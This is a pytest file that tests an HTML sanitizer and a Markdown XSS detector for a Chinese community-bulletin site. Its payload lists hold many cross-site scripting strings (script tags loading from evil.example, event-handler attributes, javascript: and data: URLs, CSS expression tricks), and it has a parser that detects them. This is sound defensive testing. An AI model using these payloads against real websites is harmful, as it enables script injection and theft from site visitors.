"""Editor markup cannot run script: the Markdown detector and the HTML allow-list."""

from __future__ import annotations

import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest

from bulletin import content, sanitize
from bulletin.report import Report

PAGES = Path(__file__).parent / "fixtures" / "safety" / "pages"

EXTENSIONS = ["toc", "attr_list", "md_in_html", "admonition", "tables", "footnotes",
              "pymdownx.details", "pymdownx.superfences", "pymdownx.highlight", "pymdownx.tabbed",
              "pymdownx.tasklist"]
EXTENSION_CONFIGS = {"toc": {"permalink": True}, "pymdownx.tabbed": {"alternate_style": True}}


def render(text: str) -> str:
    return markdown.markdown(text, extensions=EXTENSIONS, extension_configs=EXTENSION_CONFIGS)


class Dangers(HTMLParser):
    """What in a piece of HTML could run script or pull in another page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed", "frame", "applet", "base", "form", "style", "link",
                   "math", "animate", "set"):
            self.found.append(f"<{tag}>")
        if tag == "meta":
            self.found.append("<meta>")
        for key, value in attrs:
            value = value or ""
            if key.startswith("on"):
                self.found.append(f"{tag} {key}")
            if key in ("href", "src", "srcset", "poster", "data", "action") and \
                    re.sub(r"[\x00-\x20]", "", value).lower().startswith(("javascript:", "vbscript:", "data:")):
                self.found.append(f"{tag} {key}={value}")
            if key == "style" and re.search(r"url\(|expression|javascript|\\", value, re.I):
                self.found.append(f"{tag} style={value}")
            if key in ("data-title", "data-description") and "<" in value:
                self.found.append(f"{tag} {key}={value}")

    def handle_comment(self, data):
        self.comments.append(data)


def dangers(html: str) -> list[str]:
    parser = Dangers()
    parser.feed(html)
    return parser.found + [f"<!--{c}-->" for c in parser.comments]


# --- clean_html: what goes ----------------------------------------------------------

PAYLOADS = [
    ("script", '<script>alert("x")</script>'),
    ("script upper case", '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>'),
    ("iframe", '<iframe src="https://evil.example/"></iframe>'),
    ("object", '<object data="evil.swf"></object>'),
    ("embed", '<embed src="evil.swf">'),
    ("style element", "<style>body{background:url(https://evil.example/x)}</style>"),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("base", '<base href="https://evil.example/">'),
    ("form", '<form action="https://evil.example/"><input name="q"></form>'),
    ("img onerror", '<img src="x.png" onerror="alert(1)">'),
    ("svg onload", "<svg onload=\"alert(1)\"></svg>"),
    ("svg animate", '<svg><a><animate attributeName="href" to="javascript:alert(1)"/></a></svg>'),
    ("body onload", '<body onload="alert(1)">'),
    ("details ontoggle", '<details open ontoggle="alert(1)"><summary>x</summary></details>'),
    ("javascript link", '<a href="javascript:alert(1)">x</a>'),
    ("javascript upper case", '<a href="JavaScript:alert(1)">x</a>'),
    ("javascript with tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("javascript with spaces", '<a href="  javascript:alert(1)">x</a>'),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("data link", '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'),
    ("data image", '<img src="data:image/svg+xml;base64,PHN2Zz4=">'),
    ("data in srcset", '<img src="a.jpg" srcset="data:image/png;base64,AAAA 2x">'),
    ("javascript poster", '<video poster="javascript:alert(1)"></video>'),
    ("style url", '<p style="background:url(https://evil.example/x.png)">x</p>'),
    ("style expression", '<p style="width:expression(alert(1))">x</p>'),
    ("style escapes", '<p style="background:\\75 rl(x)">x</p>'),
    ("comment", "<!-- 内部备注 -->"),
    ("conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("math", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("glightbox title", '<a class="glightbox" href="a.jpg" data-title="<img src=x onerror=alert(1)>">x</a>'),
    ("glightbox description", '<a class="glightbox" href="a.jpg" data-description="<b onmouseover=alert(1)>x</b>">x</a>'),
]


@pytest.mark.parametrize("label,payload", PAYLOADS, ids=[p[0] for p in PAYLOADS])
def test_payload_is_removed(label, payload):
    assert dangers(payload), "the payload itself must be dangerous"
    cleaned = sanitize.clean_html(f"<p>前</p>{payload}<p>后</p>")
    assert dangers(cleaned) == []
    assert "alert" not in cleaned and "evil.example" not in cleaned
    assert "<p>前</p>" in cleaned and "<p>后</p>" in cleaned


def test_glightbox_captions_keep_their_text_without_markup():
    cleaned = sanitize.clean_html('<a class="glightbox" href="a.jpg" data-title="王阿姨 &amp; 李师傅 <b>x</b>">p</a>')
    assert 'data-title="王阿姨 &amp; 李师傅 x"' in cleaned


def test_mermaid_class_is_dropped_so_material_loads_nothing_from_a_cdn():
    cleaned = sanitize.clean_html('<pre class="mermaid big"><code>graph TD</code></pre>')
    assert 'class="big"' in cleaned and "mermaid" not in cleaned.split(">")[0]


# --- clean_html: what stays ---------------------------------------------------------

RICH = """
# 标题

!!! note "提示"
    提示内容

??? info "更多"
    折叠内容

| 左 | 中 |
|:---|:--:|
| 1 | 2 |

脚注[^1]

[^1]: 脚注内容

```python
print("<b>")
```

=== "甲"
    一

=== "乙"
    二

- [x] 完成
- [ ] 未完成

<figure markdown>
  ![照片](a.jpg){ width="300" loading=lazy }
  <figcaption>说明</figcaption>
</figure>

<picture>
  <source srcset="a-800.webp 800w, a-400.webp 400w" sizes="(max-width: 600px) 400px, 800px" type="image/webp">
  <img src="a-800.jpg" alt="照片" width="800" height="600" loading="lazy" decoding="async">
</picture>

<ruby>汉<rt>hàn</rt></ruby>

<span lang="zh-Hant" translate="no">繁體</span>

[外部链接](https://www.gov.cn/){ target=_blank } [电话](tel:12345) [邮件](mailto:a@example.org)
"""


def test_markdown_extensions_and_material_markup_survive():
    html = render(RICH)
    cleaned = sanitize.clean_html(html)
    for kept in [
        '<h1 id="_1">标题<a class="headerlink" href="#_1" title="Permanent link">¶</a></h1>',
        '<div class="admonition note">', '<p class="admonition-title">提示</p>',
        '<details class="info">', "<summary>更多</summary>",
        '<th style="text-align: left">左</th>', '<td style="text-align: center">2</td>',
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
        '<li id="fn:1">', 'class="footnote-backref" href="#fnref:1"',
        '<span class="nb">print</span>',
        '<div class="tabbed-set tabbed-alternate" data-tabs="1:2">',
        '<input checked="checked" id="__tabbed_1_1" name="__tabbed_1" type="radio">',
        '<label for="__tabbed_1_1">甲</label>',
        '<input type="checkbox" disabled="" checked="">',
        "<figure>", '<img alt="照片" loading="lazy" src="a.jpg" width="300">', "<figcaption>说明</figcaption>",
        '<source srcset="a-800.webp 800w, a-400.webp 400w" sizes="(max-width: 600px) 400px, 800px" type="image/webp">',
        '<img src="a-800.jpg" alt="照片" width="800" height="600" loading="lazy" decoding="async">',
        "<ruby>汉<rt>hàn</rt></ruby>",
        '<span lang="zh-Hant" translate="no">繁體</span>',
        '<a href="https://www.gov.cn/" target="_blank">外部链接</a>',
        '<a href="tel:12345">电话</a>', '<a href="mailto:a@example.org">邮件</a>',
    ]:
        assert kept in cleaned, kept
    assert dangers(cleaned) == []


def test_material_emoji_svg_survives():
    emoji = ('<span class="twemoji"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">'
             '<path d="M12 2A10 10 0 1 0 22 12"></path></svg></span>')
    assert sanitize.clean_html(emoji) == emoji


def test_glightbox_anchor_survives():
    anchor = ('<a class="glightbox" data-type="image" data-width="auto" data-height="auto" href="a.jpg" '
              'data-title="志愿者为老人理发" data-desc-position="bottom"><img alt="志愿者为老人理发" src="a.jpg"></a>')
    assert sanitize.clean_html(anchor) == anchor


def test_content_cannot_pose_as_the_script_switch_or_forge_search_fields():
    cleaned = sanitize.clean_html('<a href="https://evil.example/" data-variant="zh-Hant">繁</a>'
                                  '<span data-pagefind-meta="title:假标题">x</span>'
                                  '<p data-search-skip>不进搜索</p>')
    assert "data-variant" not in cleaned and "data-pagefind-meta" not in cleaned
    assert "<p data-search-skip" in cleaned


ALBUM_CELL = """<figure class="bl-album-photo">
<a class="glightbox bl-album-link" href="../../assets/media/a/1600.jpg" data-type="image" data-gallery="album-spring" \
data-srcset="a-800.jpg 800w, a-1600.jpg 1600w" data-sizes="100vw" data-width="auto" data-height="auto" title="志愿者">
<picture>
<source type="image/webp" srcset="a-400.webp 400w, a-800.webp 800w" sizes="(max-width: 600px) 50vw, 20rem">
<img class="off-glb bl-album-img" src="a-800.jpg" srcset="a-400.jpg 400w, a-800.jpg 800w" sizes="(max-width: 600px) 50vw, \
20rem" width="800" height="600" alt="志愿者" loading="lazy" decoding="async" style="background-color: #8a7b6c; \
background-image: url('data:image/webp;base64,UklGRhIAAABXRUJQVlA4')">
</picture>
</a>
<figcaption>志愿者</figcaption>
</figure>"""


def test_album_grid_markup_survives_with_its_placeholder():
    assert sanitize.clean_html(ALBUM_CELL) == ALBUM_CELL


STYLES = [
    ("kept", "text-align: center", "text-align: center"),
    ("unknown property dropped", "position: fixed; color: red", "color: red"),
    ("remote url dropped", "color: red; background-image: url(https://evil.example/x.png)", "color: red"),
    ("svg data url dropped", "background-image: url(data:image/svg+xml;base64,PHN2Zz4=)", None),
    ("expression", "width: expression(alert(1))", None),
    ("escapes", "background: \\75 rl(x)", None),
    ("javascript", "background-image: url(javascript:alert(1))", None),
    ("image-set", 'background-image: image-set("https://evil.example/a.png" 1x)', None),
    ("bare url text in base64", "background-image: url(data:image/png;base64,QURLurlx)",
     "background-image: url(data:image/png;base64,QURLurlx)"),
]


@pytest.mark.parametrize("label,style,expected", STYLES, ids=[s[0] for s in STYLES])
def test_style_declarations(label, style, expected):
    assert sanitize.clean_style(style) == expected


def test_extra_attributes_widen_the_allow_list():
    assert "data-slide" not in sanitize.clean_html('<div data-slide="3">x</div>')
    assert 'data-slide="3"' in sanitize.clean_html('<div data-slide="3">x</div>', {"div": {"data-slide"}})


def test_plain_text_is_safe_raw_in_a_tag_in_an_attribute_and_after_striptags():
    from markupsafe import Markup

    for value in ['标题<script>alert(1)</script>', 'a &lt;/title&gt;&lt;script&gt;x', 'desc"><b>x</b>']:
        text = sanitize.plain_text(value)
        assert not set(text) & set('<>"&')
        assert not set(Markup(text).striptags()) & set('<>"')
    assert sanitize.plain_text("幸福社区 2026 年工作计划") == "幸福社区 2026 年工作计划"
    assert sanitize.safe_meta({"title": "<b>x</b>", "tags": ["<i>a</i>"], "year": 2026}) == \
        {"title": "x", "tags": ["a"], "year": 2026}


# --- check_markdown: the editor is told, with file and line --------------------------

FIXTURES = [
    # (fixture, [(code, line), …])
    ("xss-script.md", [("XSS001", 5)]),
    ("xss-iframe.md", [("XSS001", 5)]),
    ("xss-object.md", [("XSS001", 5), ("XSS001", 6)]),
    ("xss-onerror.md", [("XSS002", 5)]),
    ("xss-svg.md", [("XSS002", 5)]),
    ("xss-attr-list.md", [("XSS003", 5), ("XSS003", 8)]),
    ("xss-javascript-link.md", [("XSS004", 5), ("XSS004", 7)]),
    ("xss-data-url.md", [("XSS004", 5)]),
    ("xss-meta-refresh.md", [("XSS005", 5)]),
    ("xss-style.md", [("XSS006", 5)]),
    ("xss-title.md", [("XSS001", 2)]),
    ("xss-glightbox.md", [("XSS002", 5)]),
    ("xss-comment.md", []),
    ("xss-heading.md", []),
    ("xss-code.md", []),
]


@pytest.mark.parametrize("name,expected", FIXTURES, ids=[f[0] for f in FIXTURES])
def test_fixture_is_reported_and_cleaned(tmp_path, name, expected):
    root = tmp_path / "site_src"
    root.mkdir()
    shutil.copy(PAGES / name, root / name)
    index = content.load(root)
    assert index.report.problems == []
    source = index.sources[name]
    report = Report()
    sanitize.check_markdown(source, report)
    assert [(p.code, p.line) for p in report.problems] == expected
    assert all(p.path == f"site_src/{name}" for p in report.problems)
    assert all(p.severity.value == "warning" for p in report.problems)
    if name == "xss-title.md":  # the danger is in front matter, which templates print raw
        assert "<script>" in source.meta["title"]
        assert sanitize.plain_text(source.meta["title"]) == "标题"
        return
    assert dangers(render(source.body)) or not expected
    cleaned = sanitize.clean_html(render(source.body))
    assert dangers(cleaned) == []
    marker = re.search(r"xss[-_][a-z]+", source.text)
    if marker and name not in ("xss-heading.md", "xss-glightbox.md"):  # those stay as harmless text
        assert marker.group(0) not in cleaned


def test_messages_are_chinese_and_say_what_happened():
    report = Report()
    sanitize.check_markdown(_source('<img src="a.jpg" onerror="alert(1)">'), report)
    (problem,) = report.problems
    assert "onerror" in problem.message and "已删除" in problem.message


def test_code_blocks_and_spans_are_not_reported():
    text = "```\n<script>x</script>\n```\n\n~~~~\n<iframe>\n~~~~\n\n`<img onerror=x>` and ``[a](javascript:x)``\n"
    assert list(sanitize.find_constructs(text)) == []


def test_an_unclosed_fence_hides_nothing_after_a_shorter_one():
    text = "````\n```\n<script>x</script>\n````\n<script>y</script>\n"
    assert [(c.code, text.count("\n", 0, c.offset) + 1) for c in sanitize.find_constructs(text)] == [("XSS001", 5)]


def _source(body: str) -> content.Source:
    text = f"---\ntitle: t\n---\n{body}\n"
    return content.Source("a.md", "site_src/a.md", "page", {"title": "t"}, {"title": 2}, body + "\n", 4, text)
